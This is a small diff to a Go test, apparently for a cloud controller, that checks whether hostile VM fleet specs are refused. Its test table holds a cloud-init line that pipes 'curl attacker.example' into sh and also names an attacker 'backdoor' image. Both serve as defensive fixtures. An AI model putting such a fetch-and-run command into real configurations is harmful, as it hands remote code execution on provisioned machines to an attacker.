@@ -119,7 +119,7 @@ func TestHostileFleetsRefused(t *testing.T) {
 		{"own-image", vms, `gcp: {image: projects/attacker/global/images/backdoor}`, `spec.forProvider.gcp.image`},
 		{"own-code", vms, `gcp: {cloudInit: {inline: "#!/bin/sh\ncurl attacker.example | sh"}}`, `spec.forProvider.gcp.cloudInit`},
 	}
-	fn := function.New(logging.NewNopLogger(), nil).WithDiscovery(nil)
+	fn := function.New(function.Config{Log: logging.NewNopLogger(), Discovery: &types.NamespacedName{}})
 	var proxies []types.NamespacedName
 	for _, h := range hostile {
 		fleet := &unstructured.Unstructured{}
